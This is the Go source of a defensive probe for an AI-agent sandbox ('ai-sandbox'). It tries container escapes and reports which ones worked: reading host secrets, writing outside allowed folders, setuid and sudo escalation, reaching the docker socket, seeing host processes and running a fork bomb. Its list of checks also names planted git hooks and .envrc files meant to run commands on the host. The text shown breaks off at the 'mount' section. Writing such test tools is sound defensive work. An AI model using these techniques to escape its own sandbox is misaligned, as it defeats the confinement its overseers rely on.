// Package probe is the attack probe: run inside a sandbox, it tries to
// break out and reports, as JSON on stdout, which attempts succeeded. It
// runs only inside containers; starting processes there (setuid
// binaries, a fork bomb, itself in a user namespace) is the attack, which
// is why this package, unlike the rest of ai-sandbox, uses os/exec.
//
//	probe [flags] CHECK...   (or: probe [flags] all)
//
// Two programs carry it: e2e/probe (a thin main, mounted into sandboxes
// by the end-to-end tests) and ai-sandbox itself ('ai-sandbox __probe',
// which 'ai-sandbox doctor --attack' runs in a fresh sandbox with its own
// executable mounted read-only).
//
// The output is one JSON object mapping each check's name to
// {"succeeded": bool, "detail": "...", "evidence": [...], "facts": [...],
// "skipped": bool, "timed_out": bool}: evidence lists the holes found,
// facts are "key:value" observations for the tests (env names, counts). "succeeded" true means the attack worked: a hole.
// A check that lacks a parameter it needs is "skipped"; a check that runs
// out of time is "timed_out". The probe exits 0 whatever it finds, 2 on
// bad usage.
//
// Every check must be able to detect a success: the tests run the probe
// in deliberately weakened containers too (root, --privileged, the docker
// socket mounted, --pid=host, …) and expect the holes to be seen.
//
// The probe uses only the standard library, so it builds as a static
// binary (CGO_ENABLED=0) that runs in any image.
package probe

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"
	"unsafe"
)

// Result is what one check found.
type Result struct {
	Succeeded bool     `json:"succeeded"`
	Detail    string   `json:"detail"`
	Evidence  []string `json:"evidence,omitempty"` // the holes found
	Facts     []string `json:"facts,omitempty"`    // key:value observations
	Skipped   bool     `json:"skipped,omitempty"`
	TimedOut  bool     `json:"timed_out,omitempty"`
}

// params are the check parameters, from flags or AI_SANDBOX_PROBE_* variables.
type params struct {
	secrets     []string // host paths of planted secrets
	markers     []string // strings that only the planted secrets contain
	hostHome    string   // the host user's home: secrets are also looked for at /home/agent/<rel>
	others      []string // other whitelisted workspaces
	project     string   // the project mounted in the sandbox
	allowed     []string // folders where writing is allowed (besides the defaults)
	processMark string   // a string in the cmdline of a host process
	envNames    []string // variables that must not be present
	forkMax     int      // fork-bomb cap
	reach       []string // host:port the sandbox must not reach
	dnsName     string   // one more public name network-dns tries
	noMetadata  bool     // network-reach leaves the metadata service alone (unit tests)
	timeout     time.Duration
	// self runs this probe again (see Main).
	self []string
}

type check struct {
	name    string
	what    string // what the attack tries, for a scorecard
	run     func(ctx context.Context, p *params) Result
	timeout time.Duration // 0: the default
	// explicit checks are not part of "all": they change the project or
	// the home when they succeed (the plants), or need another session
	// running beside the probe; they run only when named.
	explicit bool
}

func checks() []check {
	return []check{
		{name: "read-host-secret", what: "read a secret of the host (an SSH key, cloud credentials, the env file)", run: checkReadHostSecret},
		{name: "other-workspace-read", what: "read another whitelisted workspace", run: checkOtherWorkspaceRead},
		{name: "other-workspace-write", what: "write into another whitelisted workspace", run: checkOtherWorkspaceWrite},
		{name: "write-outside", what: "write outside the project, the home and /tmp", run: checkWriteOutside},
		{name: "git-metadata-write", what: "change the project's .git/hooks or .git/config", run: checkGitMetadataWrite},
		{name: "capabilities", what: "hold a Linux capability", run: checkCapabilities},
		{name: "become-root", what: "become root (setuid binaries, su)", run: checkBecomeRoot},
		{name: "host-processes", what: "see the host's processes", run: checkHostProcesses},
		{name: "docker-socket", what: "reach the docker engine or another host socket", run: checkDockerSocket},
		{name: "mount", what: "mount a file system (also in a new user namespace)", run: checkMount},
		{name: "ptrace", what: "ptrace a host process", run: checkPtrace},
		{name: "env-leak", what: "read API keys the sandbox was not given", run: checkEnvLeak},
		{name: "network-reach", what: "reach the host's services, the cloud metadata service or another sandbox (directly or through the proxy)", run: checkNetworkReach},
		{name: "network-dns", what: "resolve a public name (DNS queries leaving the sandbox)", run: checkNetworkDNS},
		// Last: it disturbs every other process in the sandbox for a moment.
		{name: "fork-bomb", what: "fork without limit", run: checkForkBomb, timeout: 90 * time.Second},

		// Phase one of the two-phase attacks: plant what the host reads,
		// mounts or runs later (see "plants" below).
		{name: "plant-hooks-symlink", what: "replace .git/hooks by a link to the host's ~/.ssh", run: checkPlantHooksSymlink, explicit: true},
		{name: "plant-config-symlink", what: "replace .git/config by a link to the host's env file", run: checkPlantConfigSymlink, explicit: true},
		{name: "plant-git-symlink", what: "make .git a link to a git dir of the agent's", run: checkPlantGitSymlink, explicit: true},
		{name: "plant-renamed-git", what: "rename .git and put a git dir of the agent's in its place", run: checkPlantRenamedGit, explicit: true},
		{name: "plant-git-file", what: "replace .git by a gitdir: file pointing to the agent's git dir", run: checkPlantGitFile, explicit: true},
		{name: "plant-commondir", what: "send git to another git dir with .git/commondir", run: checkPlantCommondir, explicit: true},
		{name: "plant-home-links", what: "link the agent's login file and skills folder to host files", run: checkPlantHomeLinks, explicit: true},
		{name: "plant-nested-repo", what: "write a repository and an .envrc that run a command on the host", run: checkPlantNestedRepo, explicit: true},
		{name: "plant-index-gitlink", what: "record a planted repository as a submodule in the project's index", run: checkPlantIndexGitlink, explicit: true},
		{name: "ptrace-sibling", what: "ptrace or read the memory of another session", run: checkPtraceSibling, explicit: true},
		{name: "key-search", what: "find a git credential anywhere in the sandbox", run: checkKeySearch, timeout: 3 * time.Minute, explicit: true}, // gitaccess.go
	}
}

// Check names one of the probe's checks and says what it tries.
type Check struct {
	Name string
	What string
	// Explicit checks are not part of "all" (see checks).
	Explicit bool
}

// Checks lists the probe's checks, in the order "all" runs them.
func Checks() []Check {
	var out []Check
	for _, c := range checks() {
		out = append(out, Check{Name: c.name, What: c.what, Explicit: c.explicit})
	}
	return out
}

// Parse reads the probe's JSON output.
func Parse(out []byte) (map[string]Result, error) {
	var res map[string]Result
	if err := json.Unmarshal(out, &res); err != nil {
		return nil, fmt.Errorf("the probe's output: %w", err)
	}
	return res, nil
}

// Main runs the probe with args (its own arguments, without the program
// name) and returns the exit code. self is the command that runs this
// probe again ([executable] for e2e/probe, [executable, "__probe"] for
// ai-sandbox): the fork bomb and the user-namespace mount run in a child
// of their own. argv0 is the name the program was started as: as
// "opencode", "web" and "serve" are the web stand-in (see web.go).
func Main(self []string, argv0 string, args []string, stdout, stderr io.Writer) int {
	if filepath.Base(argv0) == "opencode" && len(args) > 0 && (args[0] == "web" || args[0] == "serve") {
		return webStub(args)
	}
	if len(args) > 0 {
		switch args[0] {
		case "__listen":
			if len(args) < 2 {
				return 2
			}
			return listenChild(args[1])
		case "__get":
			if len(args) < 2 {
				return 2
			}
			return getChild(args[1])
		case "__forkbomb": // the fork loop, run in its own process group
			return forkBombChild(args[1:])
		case "__userns-mount": // a mount attempt inside a new user namespace
			return usernsMountChild()
		case "__sleep": // a long session for the tests: probe __sleep SECONDS
			d := 60
			if len(args) > 1 {
				d = atoiOr(args[1], d)
			}
			fmt.Fprintln(stdout, "ready")
			time.Sleep(time.Duration(d) * time.Second)
			return 0
		case "__marker": // a host process the sandbox must not see: probe __marker MARKER
			time.Sleep(time.Hour)
			return 0
		}
	}
	return run(self, args, stdout, stderr)
}

func run(self []string, args []string, stdout, stderr io.Writer) int {
	fl := flag.NewFlagSet("probe", flag.ContinueOnError)
	fl.SetOutput(stderr)
	env := func(name, def string) string {
		if v := os.Getenv("AI_SANDBOX_PROBE_" + name); v != "" {
			return v
		}
		return def
	}
	secrets := fl.String("secrets", env("SECRETS", ""), "comma-separated host paths of planted secrets")
	markers := fl.String("markers", env("MARKERS", ""), "comma-separated strings that only the planted secrets contain")
	hostHome := fl.String("host-home", env("HOST_HOME", ""), "the host user's home folder")
	others := fl.String("other", env("OTHER", ""), "comma-separated other whitelisted workspaces")
	project := fl.String("project", env("PROJECT", ""), "the project folder (writable)")
	allowed := fl.String("allowed", env("ALLOWED", ""), "comma-separated extra folders where writing is allowed")
	processMark := fl.String("process-marker", env("PROCESS_MARKER", ""), "a string in the command line of a host process")
	envNames := fl.String("env", env("ENV", "AI_SANDBOX_E2E_UNDECLARED"), "comma-separated variables that must not be present")
	reach := fl.String("reach", env("REACH", ""), "comma-separated HOST:PORT the sandbox must not reach (the host's services, another sandbox)")
	dnsName := fl.String("dns-name", env("DNS_NAME", ""), "one more public name that must not resolve")
	forkMax := fl.Int("fork-max", atoiOr(env("FORK_MAX", ""), 5000), "fork-bomb: stop after this many children")
	timeout := fl.Duration("timeout", 30*time.Second, "time limit of each check")
	fl.Usage = func() {
		fmt.Fprintln(stderr, "usage: probe [flags] CHECK... | all\nchecks (* = only when named, not in all):")
		for _, c := range checks() {
			star := ""
			if c.explicit {
				star = " *"
			}
			fmt.Fprintln(stderr, "  "+c.name+star)
		}
		fl.PrintDefaults()
	}
	if err := fl.Parse(args); err != nil {
		return 2
	}
	p := &params{
		secrets: split(*secrets), markers: split(*markers), hostHome: *hostHome, others: split(*others),
		project: *project, allowed: split(*allowed), processMark: *processMark, envNames: split(*envNames),
		forkMax: *forkMax, timeout: *timeout, self: self, reach: split(*reach), dnsName: *dnsName,
	}
	want := fl.Args()
	if len(want) == 0 {
		fl.Usage()
		return 2
	}
	all := checks()
	var selected []check
	for _, w := range want {
		if w == "all" {
			selected = nil
			for _, c := range all {
				if !c.explicit {
					selected = append(selected, c)
				}
			}
			break
		}
		found := false
		for _, c := range all {
			if c.name == w {
				selected = append(selected, c)
				found = true
			}
		}
		if !found {
			fmt.Fprintf(stderr, "probe: unknown check %q\n", w)
			fl.Usage()
			return 2
		}
	}
	results := map[string]Result{}
	for _, c := range selected {
		results[c.name] = runCheck(c, p)
	}
	enc := json.NewEncoder(stdout)
	enc.SetIndent("", "  ")
	if err := enc.Encode(results); err != nil {
		fmt.Fprintln(stderr, "probe:", err)
		return 1
	}
	return 0
}

// selfCmd is the command that runs this probe again: the one given to
// Main, else the running executable.
func (p *params) selfCmd() ([]string, error) {
	if len(p.self) > 0 {
		return p.self, nil
	}
	exe, err := os.Executable()
	if err != nil {
		return nil, err
	}
	return []string{exe}, nil
}

// runCheck runs one check within its time limit. A check that overruns
// is reported as timed out and left behind (the probe exits soon after).
func runCheck(c check, p *params) Result {
	d := c.timeout
	if d == 0 {
		d = p.timeout
	}
	ctx, cancel := context.WithTimeout(context.Background(), d)
	defer cancel()
	done := make(chan Result, 1)
	go func() {
		defer func() {
			if r := recover(); r != nil {
				done <- Result{Detail: fmt.Sprintf("panic: %v", r), TimedOut: true}
			}
		}()
		done <- c.run(ctx, p)
	}()
	select {
	case r := <-done:
		return r
	case <-time.After(d + 5*time.Second):
		return Result{Detail: fmt.Sprintf("did not finish within %s", d), TimedOut: true}
	}
}

// notes collects what a check tried, for the detail field.
type notes struct {
	lines    []string
	evidence []string
	facts    []string
	hit      bool
}

func (n *notes) fact(key, value string) { n.facts = append(n.facts, key+":"+value) }

func (n *notes) add(format string, args ...any) {
	n.lines = append(n.lines, fmt.Sprintf(format, args...))
}

// success records an attack that worked.
func (n *notes) success(format string, args ...any) {
	s := fmt.Sprintf(format, args...)
	n.hit = true
	n.evidence = append(n.evidence, s)
	n.lines = append(n.lines, "HOLE: "+s)
}

func (n *notes) result() Result {
	return Result{Succeeded: n.hit, Detail: strings.Join(n.lines, "; "), Evidence: n.evidence, Facts: n.facts}
}

func skipped(why string) Result { return Result{Skipped: true, Detail: "skipped: " + why} }

// ---------------------------------------------------------------------------
// read-host-secret

func checkReadHostSecret(ctx context.Context, p *params) Result {
	if len(p.secrets) == 0 {
		return skipped("no -secrets given")
	}
	var n notes
	var paths []string
	for _, s := range p.secrets {
		paths = append(paths, s)
		if p.hostHome != "" {
			if rel, err := filepath.Rel(p.hostHome, s); err == nil && !strings.HasPrefix(rel, "..") {
				paths = append(paths, filepath.Join("/home/agent", rel), filepath.Join("/root", rel))
			}
		}
	}
	for _, path := range dedupe(paths) {
		data, err := readLimited(path, 1<<20)
		switch {
		case err != nil:
			n.add("%s: %s", path, errText(err))
		case len(p.markers) == 0 || containsAny(data, p.markers):
			n.success("read %s (%d bytes)", path, len(data))
		default:
			n.add("%s: readable but holds no planted marker (not the host's file)", path)
		}
	}
	// The planted secrets may have been copied anywhere: look for their
	// markers in every small file outside the image's own folders.
	if len(p.markers) > 0 {
		skip := map[string]bool{"/proc": true, "/sys": true, "/dev": true, "/usr": true, "/bin": true, "/sbin": true,
			"/lib": true, "/lib32": true, "/lib64": true, "/libx32": true, "/boot": true,
			"/var/lib/dpkg": true, "/var/lib/apt": true, "/var/cache": true}
		files, truncated := 0, false
		deadline := time.Now().Add(8 * time.Second)
		_ = filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
			if err != nil {
				return nil
			}
			if ctx.Err() != nil || time.Now().After(deadline) {
				truncated = true
				return fs.SkipAll
			}
			if d.IsDir() {
				if skip[path] {
					return fs.SkipDir
				}
				return nil
			}
			if !d.Type().IsRegular() {
				return nil
			}
			info, err := d.Info()
			if err != nil || info.Size() > 1<<20 {
				return nil
			}
			files++
			if data, err := os.ReadFile(path); err == nil && containsAny(data, p.markers) {
				n.success("a planted secret's marker is in %s", path)
			}
			return nil
		})
		n.add("searched %d files for the markers (truncated: %v)", files, truncated)
	}
	return n.result()
}

// ---------------------------------------------------------------------------
// other-workspace-read / other-workspace-write

func checkOtherWorkspaceRead(ctx context.Context, p *params) Result {
	if len(p.others) == 0 {
		return skipped("no -other given")
	}
	var n notes
	for _, dir := range p.others {
		entries, err := os.ReadDir(dir)
		switch {
		case err != nil:
			n.add("list %s: %s", dir, errText(err))
		case len(entries) == 0:
			n.add("list %s: empty (a mount point, not the workspace)", dir)
		default:
			n.success("listed %s: %d entries", dir, len(entries))
			for _, e := range entries {
				if e.Type().IsRegular() {
					if _, err := readLimited(filepath.Join(dir, e.Name()), 4096); err == nil {
						n.success("read %s", filepath.Join(dir, e.Name()))
						break
					}
				}
			}
		}
	}
	return n.result()
}

func checkOtherWorkspaceWrite(ctx context.Context, p *params) Result {
	if len(p.others) == 0 {
		return skipped("no -other given")
	}
	var n notes
	for _, dir := range p.others {
		// Never create the folder itself: its parents may be a tmpfs here.
		name := filepath.Join(dir, "ai-sandbox-probe-"+strconv.Itoa(os.Getpid()))
		if err := tryCreate(name); err != nil {
			n.add("create %s: %s", name, errText(err))
		} else {
			n.success("created %s", name)
		}
	}
	return n.result()
}

// ---------------------------------------------------------------------------
// write-outside

// outsideDirs are folders of the image that must stay unchanged.
var outsideDirs = []string{"/", "/usr", "/usr/local", "/usr/local/bin", "/usr/bin", "/etc", "/var", "/var/lib",
	"/opt", "/home", "/root", "/srv", "/mnt", "/bin", "/sbin", "/lib"}

// outsideFiles are files that a container may share with the host or
// whose change would matter; they are opened for appending, never changed.
var outsideFiles = []string{"/etc/passwd", "/etc/group", "/etc/shadow", "/etc/hosts", "/etc/hostname", "/etc/resolv.conf"}

func checkWriteOutside(ctx context.Context, p *params) Result {
	var n notes
	allowed := []string{"/tmp", "/var/tmp", "/run", "/dev/shm", "/home/agent"}
	if p.project != "" {
		allowed = append(allowed, p.project)
	}
	allowed = append(allowed, p.allowed...)
	for _, dir := range outsideDirs {
		if isWithinAny(dir, allowed) {
			continue
		}
		name := filepath.Join(dir, fmt.Sprintf(".ai-sandbox-probe-%d", os.Getpid()))
		if err := tryCreate(name); err == nil {
			n.success("created a file in %s", dir)
		} else if err := os.Mkdir(name, 0o700); err == nil {
			_ = os.Remove(name)
			n.success("created a folder in %s", dir)
		} else {
			n.add("%s: %s", dir, errText(err))
		}
	}
	for _, f := range outsideFiles {
		fh, err := os.OpenFile(f, os.O_WRONLY|os.O_APPEND, 0)
		if err == nil {
			fh.Close()
			n.success("opened %s for writing", f)
		} else {
			n.add("%s: %s", f, errText(err))
		}
	}
	// The allowed places are not counted, but they should work: a probe
	// that cannot write anywhere has not really been tested.
	var ok []string
	for _, dir := range allowed {
		name := filepath.Join(dir, fmt.Sprintf(".ai-sandbox-probe-%d", os.Getpid()))
		if tryCreate(name) == nil {
			ok = append(ok, dir)
			n.fact("writable", dir)
		}
	}
	n.add("writable as allowed: %s", strings.Join(ok, ","))
	return n.result()
}

// checkGitMetadataWrite tries to change the project's .git/hooks and
// .git/config, which the sandbox mounts read-only without git access.
func checkGitMetadataWrite(ctx context.Context, p *params) Result {
	if p.project == "" {
		return skipped("no -project given")
	}
	var n notes
	hooks := filepath.Join(p.project, ".git", "hooks")
	if _, err := os.Stat(hooks); err != nil {
		n.add("%s: %s", hooks, errText(err))
	} else if err := tryCreate(filepath.Join(hooks, "post-checkout")); err == nil {
		n.success("created a hook in %s", hooks)
	} else {
		n.add("create a hook in %s: %s", hooks, errText(err))
	}
	cfg := filepath.Join(p.project, ".git", "config")
	if fh, err := os.OpenFile(cfg, os.O_WRONLY|os.O_APPEND, 0); err == nil {
		fh.Close()
		n.success("opened %s for writing", cfg)
	} else {
		n.add("%s: %s", cfg, errText(err))
	}
	// Replacing the file by a rename is as good as writing it. The copy
	// has the same content, so even a success changes nothing.
	if data, err := os.ReadFile(cfg); err == nil {
		tmp := filepath.Join(p.project, ".git", fmt.Sprintf(".config.probe-%d", os.Getpid()))
		if err := os.WriteFile(tmp, data, 0o644); err != nil {
			n.add("write a copy of %s: %s", cfg, errText(err))
		} else if err := os.Rename(tmp, cfg); err == nil {
			n.success("replaced %s by a rename", cfg)
		} else {
			_ = os.Remove(tmp)
			n.add("rename over %s: %s", cfg, errText(err))
		}
	}
	return n.result()
}

// ---------------------------------------------------------------------------
// capabilities

func checkCapabilities(ctx context.Context, p *params) Result {
	var n notes
	status, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return Result{Detail: "read /proc/self/status: " + errText(err), TimedOut: true}
	}
	for _, line := range strings.Split(string(status), "\n") {
		name, val, ok := strings.Cut(line, ":\t")
		if !ok || !strings.HasPrefix(name, "Cap") {
			continue
		}
		bits, err := strconv.ParseUint(strings.TrimSpace(val), 16, 64)
		if err != nil {
			continue
		}
		if bits != 0 {
			n.success("%s=%016x", name, bits)
		} else {
			n.add("%s=0", name)
		}
	}
	dir, err := os.MkdirTemp("", "probe-caps-")
	if err == nil {
		defer os.RemoveAll(dir)
		f := filepath.Join(dir, "f")
		if err := os.WriteFile(f, nil, 0o644); err == nil {
			// chown to someone else: root, or (already being root) uid 4242.
			to := 0
			if os.Geteuid() == 0 {
				to = 4242
			}
			if err := os.Chown(f, to, to); err == nil {
				n.success("chown to %d (CAP_CHOWN)", to)
			} else {
				n.add("chown to %d: %s", to, errText(err))
			}
		}
		// /dev/null's numbers: 1,3.
		if err := syscall.Mknod(filepath.Join(dir, "null"), syscall.S_IFCHR|0o600, 1<<8|3); err == nil {
			n.success("mknod of a character device (CAP_MKNOD)")
		} else {
			n.add("mknod: %s", errText(err))
		}
	} else {
		n.add("no temporary folder: %s", errText(err))
	}
	// Setting the hostname to what it already is changes nothing but
	// still needs CAP_SYS_ADMIN.
	if host, err := os.Hostname(); err == nil {
		if err := sethostname([]byte(host)); err == nil {
			n.success("sethostname (CAP_SYS_ADMIN)")
		} else {
			n.add("sethostname: %s", errText(err))
		}
	}
	if fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_ICMP); err == nil {
		syscall.Close(fd)
		n.success("raw socket (CAP_NET_RAW)")
	} else {
		n.add("raw socket: %s", errText(err))
	}
	if fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, 0); err == nil {
		err := syscall.Bind(fd, &syscall.SockaddrInet4{Port: 81})
		syscall.Close(fd)
		if err == nil && os.Geteuid() != 0 {
			// Unprivileged ports may be lowered by a sysctl; only notable as a user.
			n.add("bind to port 81 worked (ip_unprivileged_port_start is low)")
		} else if err == nil {
			n.success("bind to port 81 (CAP_NET_BIND_SERVICE)")
		} else {
			n.add("bind to port 81: %s", errText(err))
		}
	}
	return n.result()
}

// ---------------------------------------------------------------------------
// become-root

func checkBecomeRoot(ctx context.Context, p *params) Result {
	var n notes
	n.add("uid=%d euid=%d gid=%d egid=%d groups=%v", os.Getuid(), os.Geteuid(), os.Getgid(), os.Getegid(), groups())
	if os.Geteuid() == 0 {
		n.success("already euid 0")
	}
	if err := syscall.Setuid(0); err == nil && os.Geteuid() == 0 {
		n.success("setuid(0)")
	} else if err != nil {
		n.add("setuid(0): %s", errText(err))
	}
	if err := setresuid(0, 0, 0); err == nil && os.Geteuid() == 0 {
		n.success("setresuid(0,0,0)")
	}

	// Any setuid or setgid file: run it and read its credentials right
	// after exec (the process, alive or a zombie, is not reaped before).
	roots := map[string]bool{}
	for _, r := range []string{"/usr", "/bin", "/sbin", "/opt", "/usr/local"} {
		if real, err := filepath.EvalSymlinks(r); err == nil {
			roots[real] = true
		}
	}
	var setid []string
	for r := range roots {
		_ = filepath.WalkDir(r, func(path string, d fs.DirEntry, err error) error {
			if err != nil || ctx.Err() != nil {
				return nil
			}
			if d.Type().IsRegular() {
				if info, err := d.Info(); err == nil && info.Mode()&(fs.ModeSetuid|fs.ModeSetgid) != 0 {
					setid = append(setid, path)
				}
			}
			return nil
		})
	}
	sort.Strings(setid)
	setid = dedupe(setid)
	n.add("setuid/setgid files: %s", strings.Join(setid, ","))
	for _, path := range setid {
		if ctx.Err() != nil {
			break
		}
		uids, err := credsAfterExec(path, "--help")
		if err != nil {
			n.add("%s: %s", path, errText(err))
			continue
		}
		if len(uids) >= 2 && uids[1] == "0" {
			n.success("%s ran with euid 0", path)
		} else {
			n.add("%s ran with uids %s", path, strings.Join(uids, "/"))
		}
	}

	// su and sudo, without a password.
	for _, argv := range [][]string{{"sudo", "-n", "id", "-u"}, {"su", "-c", "id -u", "root"}, {"su", "root", "-c", "id -u"}} {
		path, err := exec.LookPath(argv[0])
		if err != nil {
			n.add("%s: not installed", argv[0])
			continue
		}
		cctx, cancel := context.WithTimeout(ctx, 5*time.Second)
		out, err := exec.CommandContext(cctx, path, argv[1:]...).Output()
		cancel()
		if err == nil && strings.TrimSpace(string(out)) == "0" {
			n.success("%s gave uid 0", strings.Join(argv, " "))
		} else {
			n.add("%s: %s", strings.Join(argv, " "), errText(err))
		}
	}
	return n.result()
}

// credsAfterExec starts path and returns the Uid line of its status
// (real, effective, saved, filesystem) as it is after exec.
func credsAfterExec(path string, args ...string) ([]string, error) {
	cmd := exec.Command(path, args...)
	cmd.Stdin = nil
	cmd.Stdout, cmd.Stderr = io.Discard, io.Discard
	if err := cmd.Start(); err != nil {
		return nil, err
	}
	defer func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
	}()
	data, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", cmd.Process.Pid))
	if err != nil {
		return nil, err
	}
	for _, line := range strings.Split(string(data), "\n") {
		if v, ok := strings.CutPrefix(line, "Uid:"); ok {
			return strings.Fields(v), nil
		}
	}
	return nil, errors.New("no Uid line in its status")
}

func groups() []int {
	g, _ := os.Getgroups()
	return g
}

// ---------------------------------------------------------------------------
// host-processes

type procInfo struct {
	pid     int
	argv0   string
	cmdline string
	comm    string
	cgroup  string
	pgid    int
	ppid    int
}

func listProcs() []procInfo {
	entries, _ := os.ReadDir("/proc")
	var out []procInfo
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		pi := procInfo{pid: pid}
		if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid)); err == nil {
			pi.argv0, _, _ = strings.Cut(string(b), "\x00")
			pi.cmdline = strings.TrimSpace(strings.ReplaceAll(string(b), "\x00", " "))
		}
		if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid)); err == nil {
			pi.comm = strings.TrimSpace(string(b))
		}
		if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/cgroup", pid)); err == nil {
			pi.cgroup = string(b)
		}
		if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid)); err == nil {
			// pid (comm) state ppid pgrp ...
			if i := bytes.LastIndexByte(b, ')'); i >= 0 {
				f := strings.Fields(string(b[i+1:]))
				if len(f) > 2 {
					pi.ppid, _ = strconv.Atoi(f[1])
					pi.pgid, _ = strconv.Atoi(f[2])
				}
			}
		}
		out = append(out, pi)
	}
	return out
}

// outside reports whether a process belongs to another cgroup than the
// probe's own (the sandbox's).
func outside(pi procInfo, self string) bool {
	return pi.cgroup != "" && self != "" && pi.cgroup != self
}

// isMarker reports whether a process is the host marker process: its
// argv[0] is the marker, or it is "probe __marker MARKER" (the probe's own
// command line and the docker command that started it only hold the
// marker as the value of -process-marker).
func isMarker(pi procInfo, marker string) bool {
	return marker != "" && (pi.argv0 == marker || strings.HasSuffix(pi.cmdline, " __marker "+marker))
}

var hostDaemons = map[string]bool{"dockerd": true, "containerd": true, "systemd": true, "sshd": true, "kthreadd": true}

func checkHostProcesses(ctx context.Context, p *params) Result {
	var n notes
	self, _ := os.ReadFile("/proc/self/cgroup")
	procs := listProcs()
	n.add("%d processes visible", len(procs))
	var inside []string
	me := os.Getpid()
	for _, pi := range procs {
		switch {
		case pi.pid == me:
			inside = append(inside, fmt.Sprintf("%d:%s(self)", pi.pid, pi.comm))
		case isMarker(pi, p.processMark):
			n.success("the host marker process is visible: pid %d", pi.pid)
		case hostDaemons[pi.comm]:
			n.success("a host daemon is visible: pid %d %s", pi.pid, pi.comm)
		case outside(pi, string(self)):
			n.success("pid %d (%s) is in another cgroup", pi.pid, pi.comm)
		default:
			inside = append(inside, fmt.Sprintf("%d:%s", pi.pid, pi.comm))
		}
	}
	if len(inside) > 20 {
		inside = append(inside[:20], "…")
	}
	n.add("own processes: %s", strings.Join(inside, " "))
	if p.processMark == "" {
		n.add("no -process-marker given: only daemons and foreign cgroups were looked for")
	}
	return n.result()
}

// ---------------------------------------------------------------------------
// docker-socket

// checkDockerSocket connects to every unix socket it finds. A connection
// is a hole when the socket is a known engine socket, answers like an
// engine, or lies outside the sandbox's own scratch space (a host
// socket: docker, ssh-agent, X11, D-Bus, …); a socket that a process of
// the sandbox made in /tmp, its home or the project is only reported.
func checkDockerSocket(ctx context.Context, p *params) Result {
	var n notes
	own := []string{"/tmp", "/var/tmp", "/dev/shm", "/home/agent"}
	if p.project != "" {
		own = append(own, p.project)
	}
	known := map[string]bool{}
	candidates := []string{"/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
		"/var/run/containerd/containerd.sock", "/run/podman/podman.sock", "/var/run/docker/docker.sock"}
	if m, _ := filepath.Glob("/run/user/*/docker.sock"); len(m) > 0 {
		candidates = append(candidates, m...)
	}
	if m, _ := filepath.Glob("/run/user/*/podman/podman.sock"); len(m) > 0 {
		candidates = append(candidates, m...)
	}
	for _, c := range candidates {
		known[c] = true
	}
	// Every socket on the file system, /proc and /sys excluded.
	deadline := time.Now().Add(6 * time.Second)
	walked, truncated := 0, false
	_ = filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if ctx.Err() != nil || time.Now().After(deadline) {
			truncated = true
			return fs.SkipAll
		}
		walked++
		if d.IsDir() && (path == "/proc" || path == "/sys") {
			return fs.SkipDir
		}
		if d.Type()&fs.ModeSocket != 0 {
			candidates = append(candidates, path)
		}
		return nil
	})
	n.add("walked %d paths (truncated: %v)", walked, truncated)
	for _, path := range dedupe(candidates) {
		if _, err := os.Lstat(path); err != nil {
			continue
		}
		conn, err := net.DialTimeout("unix", path, 2*time.Second)
		if err != nil {
			n.add("%s: %s", path, errText(err))
			continue
		}
		answer, engine := httpPing(conn)
		conn.Close()
		if known[path] || engine || !isWithinAny(path, own) {
			n.success("connected to %s%s", path, answer)
		} else {
			n.add("connected to the sandbox's own socket %s%s", path, answer)
		}
	}
	// A docker engine listening on TCP: DOCKER_HOST, the gateway, localhost.
	var tcp []string
	if h := os.Getenv("DOCKER_HOST"); strings.HasPrefix(h, "tcp://") {
		tcp = append(tcp, strings.TrimPrefix(h, "tcp://"))
	}
	for _, host := range []string{defaultGateway(), "127.0.0.1", "host.docker.internal"} {
		if host != "" {
			tcp = append(tcp, net.JoinHostPort(host, "2375"), net.JoinHostPort(host, "2376"))
		}
	}
	for _, addr := range dedupe(tcp) {
		conn, err := net.DialTimeout("tcp", addr, 1*time.Second)
		if err != nil {
			n.add("tcp %s: %s", addr, errText(err))
			continue
		}
		answer, engine := httpPing(conn)
		conn.Close()
		if engine {
			n.success("a docker engine answers on tcp %s%s", addr, answer)
		} else {
			n.add("tcp %s: connected, no HTTP answer", addr)
		}
	}
	return n.result()
}

// httpPing asks a connection for the docker engine's /_ping; it reports
// the answer and whether it came from a container engine.
func httpPing(conn net.Conn) (string, bool) {
	_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
	if _, err := io.WriteString(conn, "GET /_ping HTTP/1.0\r\nHost: docker\r\n\r\n"); err != nil {
		return "", false
	}
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		return "", false
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 64))
	server := resp.Header.Get("Server")
	engine := resp.Header.Get("Api-Version") != "" || resp.Header.Get("Libpod-Api-Version") != "" ||
		strings.Contains(server, "Docker") || strings.Contains(server, "Libpod")
	return fmt.Sprintf(" (HTTP/%d.%d %d %q, server %q)", resp.ProtoMajor, resp.ProtoMinor, resp.StatusCode, body, server), engine
}

func defaultGateway() string {
	data, err := os.ReadFile("/proc/net/route")
	if err != nil {
		return ""
	}
	for _, line := range strings.Split(string(data), "\n")[1:] {
		f := strings.Fields(line)
		if len(f) > 2 && f[1] == "00000000" {
			v, err := strconv.ParseUint(f[2], 16, 32)
			if err != nil {
				return ""
			}
			return net.IPv4(byte(v), byte(v>>8), byte(v>>16), byte(v>>24)).String()
		}
	}
	return ""
}

// ---------------------------------------------------------------------------
// mount

